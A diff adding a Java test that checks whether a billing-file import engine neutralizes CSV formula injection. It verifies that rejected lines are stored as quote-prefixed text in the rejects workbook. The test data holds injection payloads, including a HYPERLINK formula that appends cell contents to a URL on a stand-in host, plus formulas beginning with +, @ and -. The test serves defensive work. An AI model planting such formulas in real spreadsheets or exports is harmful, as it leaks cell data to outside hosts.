@@ -283,4 +283,46 @@ class InboxFileAttackTest {
             TestDatabase.dropIfPostgres(url);
         }
     }
+
+    @ParameterizedTest
+    @EnumSource(TestDatabase.class)
+    void rejectedLinesKeepTheirBytesInTheCsvAndOpenInertInTheirWorkbook(TestDatabase database) throws Exception {
+        TestWorkspace ws = workspace("ws");
+        List<String> hostile = List.of(
+                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\"),C1,2026-09-03",
+                "+1+1,C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,x,1.00,0,0,0,0,,,,,,CNY",
+                "@SUM(1),C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,1.00,2.00,0,0,0,0,,,,,,CNY",
+                "-2,C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,1.00,1.00,0,0,0,0,,,,,,XYZW");
+        List<String> lines = new java.util.ArrayList<>(hostile);
+        lines.add(usage("ok1", "C1", "2026-09-03", "1.00"));
+        ws.write("inbox/f.csv", CURRENT_HEADER, lines);
+        String url = database.freshUrl();
+        try (Engine engine = new Engine(ws.root(), url)) {
+            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
+            assertThat(files(engine)).containsExactly("f.csv ARCHIVED 5/1/0/4 - f.csv.rejects.csv");
+        } finally {
+            TestDatabase.dropIfPostgres(url);
+        }
+        // the CSV, for programs: each raw line byte for byte as the file held it
+        try (var parser = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().get()
+                .parse(Files.newBufferedReader(ws.root().resolve("rejects/f.csv.rejects.csv")))) {
+            assertThat(parser.getRecords()).extracting(r -> r.get("raw_line")).containsExactlyElementsOf(hostile);
+        }
+        // the workbook, for people: the same rows, every raw line a text cell shown as text, never a formula
+        try (var book = org.apache.poi.ss.usermodel.WorkbookFactory.create(
+                ws.root().resolve("rejects/f.csv.rejects.xlsx").toFile(), null, true)) {
+            var sheet = book.getSheetAt(0);
+            List<String> raw = new java.util.ArrayList<>();
+            for (var row : sheet) {
+                var cell = row.getCell(3);
+                assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+                if (row.getRowNum() > 0) {
+                    assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
+                    raw.add(cell.getStringCellValue());
+                }
+            }
+            // stored behind a single quote, which the spreadsheet shows as text
+            assertThat(raw).containsExactlyElementsOf(hostile.stream().map(l -> "'" + l).toList());
+        }
+    }
 }
